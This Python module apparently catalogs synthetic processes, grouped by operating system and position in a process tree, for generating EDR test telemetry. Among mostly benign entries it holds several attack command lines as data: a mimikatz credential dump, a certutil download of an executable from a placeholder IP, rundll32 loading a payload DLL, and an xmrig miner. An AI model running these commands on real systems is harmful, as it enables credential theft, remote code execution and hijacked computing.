"""The programs Enterprise EDR processes run, by OS and by place in a process family."""

from __future__ import annotations

import hashlib
from dataclasses import dataclass

__all__ = [
    "FAMILY",
    "MICROSOFT",
    "POOLS",
    "POOL_CODES",
    "PROGRAMS",
    "PROGRAM_INDEX",
    "SYSTEM32",
    "Program",
]


@dataclass(frozen=True)
class Program:
    """A program a process runs (one entry of the process catalog)."""

    name: str
    path: str
    cmdline: str
    user: str  # "system", "service", "user"
    reputation: str = "TRUSTED_WHITE_LIST"
    company: str = ""
    product: str = ""
    publisher: str = ""

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.path.encode()).hexdigest()

    @property
    def md5(self) -> str:
        return hashlib.md5(self.path.encode(), usedforsecurity=False).hexdigest()


MICROSOFT = (
    "Microsoft Corporation",
    "Microsoft\u00ae Windows\u00ae Operating System",
    "Microsoft Windows",
)


SYSTEM32 = "c:\\windows\\system32\\"


_WIN_ROOT = (Program("services.exe", SYSTEM32 + "services.exe", "C:\\Windows\\system32\\services.exe", "system", "TRUSTED_WHITE_LIST", *MICROSOFT),
             Program("explorer.exe", "c:\\windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "user", "TRUSTED_WHITE_LIST", *MICROSOFT),
             Program("wininit.exe", SYSTEM32 + "wininit.exe", "wininit.exe", "system", "TRUSTED_WHITE_LIST", *MICROSOFT))  # fmt: skip


_WIN_MID = (Program("svchost.exe", SYSTEM32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "system", "TRUSTED_WHITE_LIST", *MICROSOFT),
            Program("cmd.exe", SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" /c whoami', "user", "TRUSTED_WHITE_LIST", *MICROSOFT),
            Program("powershell.exe", SYSTEM32 + "windowspowershell\\v1.0\\powershell.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1", "user", "TRUSTED_WHITE_LIST", *MICROSOFT),
            Program("chrome.exe", "c:\\program files\\google\\chrome\\application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', "user", "TRUSTED_WHITE_LIST", "Google LLC", "Google Chrome", "Google LLC"),
            Program("winword.exe", "c:\\program files\\microsoft office\\root\\office16\\winword.exe", '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n', "user", "TRUSTED_WHITE_LIST", "Microsoft Corporation", "Microsoft Office", "Microsoft Corporation"),
            Program("lsass.exe", SYSTEM32 + "lsass.exe", "C:\\Windows\\system32\\lsass.exe", "system", "TRUSTED_WHITE_LIST", *MICROSOFT))  # fmt: skip


_WIN_LEAF = (Program("conhost.exe", SYSTEM32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "user", "TRUSTED_WHITE_LIST", *MICROSOFT),
             Program("notepad.exe", SYSTEM32 + "notepad.exe", '"C:\\Windows\\system32\\notepad.exe"', "user", "TRUSTED_WHITE_LIST", *MICROSOFT),
             Program("whoami.exe", SYSTEM32 + "whoami.exe", "whoami /all", "user", "TRUSTED_WHITE_LIST", *MICROSOFT),
             Program("net.exe", SYSTEM32 + "net.exe", "net user /domain", "user", "TRUSTED_WHITE_LIST", *MICROSOFT),
             Program("rundll32.exe", SYSTEM32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer", "user", "TRUSTED_WHITE_LIST", *MICROSOFT),
             Program("mimikatz.exe", "c:\\users\\public\\mimikatz.exe", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "user", "KNOWN_MALWARE"),
             Program("taskhostw.exe", SYSTEM32 + "taskhostw.exe", "taskhostw.exe", "user", "TRUSTED_WHITE_LIST", *MICROSOFT),
             Program("msedge.exe", "c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer', "user", "TRUSTED_WHITE_LIST", "Microsoft Corporation", "Microsoft Edge", "Microsoft Corporation"),
             Program("7z.exe", "c:\\program files\\7-zip\\7z.exe", '"C:\\Program Files\\7-Zip\\7z.exe" a backup.7z C:\\Users', "user", "COMMON_WHITE_LIST", "Igor Pavlov", "7-Zip", ""),
             Program("certutil.exe", SYSTEM32 + "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.77/a.exe a.exe", "user", "TRUSTED_WHITE_LIST", *MICROSOFT))  # fmt: skip


_NIX_ROOT = (Program("systemd", "/usr/lib/systemd/systemd", "/sbin/init splash", "system"),
             Program("sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]", "system"))  # fmt: skip


_NIX_MID = (Program("bash", "/usr/bin/bash", "-bash", "user"),
            Program("cron", "/usr/sbin/cron", "/usr/sbin/cron -f -P", "system"),
            Program("python3", "/usr/bin/python3.10", "python3 /opt/app/worker.py", "service"),
            Program("nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx", "system"),
            Program("java", "/usr/lib/jvm/java-17-openjdk/bin/java", "java -jar /opt/app/service.jar", "service"))  # fmt: skip


_NIX_LEAF = (Program("curl", "/usr/bin/curl", "curl -s https://api.example.com/health", "user"),
             Program("ls", "/usr/bin/ls", "ls -la /tmp", "user"),
             Program("cat", "/usr/bin/cat", "cat /etc/passwd", "user"),
             Program("sudo", "/usr/bin/sudo", "sudo systemctl restart nginx", "user"),
             Program("tar", "/usr/bin/tar", "tar czf /tmp/backup.tgz /var/www", "user"),
             Program("xmrig", "/tmp/.x/xmrig", "/tmp/.x/xmrig -o pool.example.net:3333", "user", "KNOWN_MALWARE"))  # fmt: skip


_MAC_ROOT = (Program("launchd", "/sbin/launchd", "/sbin/launchd", "system", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),)  # fmt: skip


_MAC_MID = (Program("Finder", "/system/library/coreservices/finder.app/contents/macos/finder", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
            Program("zsh", "/bin/zsh", "-zsh", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
            Program("Safari", "/applications/safari.app/contents/macos/safari", "/Applications/Safari.app/Contents/MacOS/Safari", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "Safari", "Software Signing"))  # fmt: skip


_MAC_LEAF = (Program("osascript", "/usr/bin/osascript", "osascript -e 'display dialog \"Update\"'", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
             Program("curl", "/usr/bin/curl", "curl -O https://example.com/tool.pkg", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
             Program("mdworker_shared", "/system/library/frameworks/coreservices.framework/mdworker_shared", "mdworker_shared -s mdworker", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"))  # fmt: skip


POOLS: dict[str, tuple[tuple[Program, ...], ...]] = {
    "windows": (_WIN_ROOT, _WIN_MID, _WIN_LEAF),
    "linux": (_NIX_ROOT, _NIX_MID, _NIX_LEAF),
    "macos": (_MAC_ROOT, _MAC_MID, _MAC_LEAF),
}


PROGRAMS: tuple[Program, ...] = tuple(p for pools in POOLS.values() for pool in pools for p in pool)


PROGRAM_INDEX = {id(p): n for n, p in enumerate(PROGRAMS)}


POOL_CODES = {
    os_: tuple(tuple(PROGRAM_INDEX[id(p)] for p in pool) for pool in pools)
    for os_, pools in POOLS.items()
}


FAMILY = 8


"""Processes per family: a small tree (position p's parent is (p - 1) // 2, position 0 the root)."""
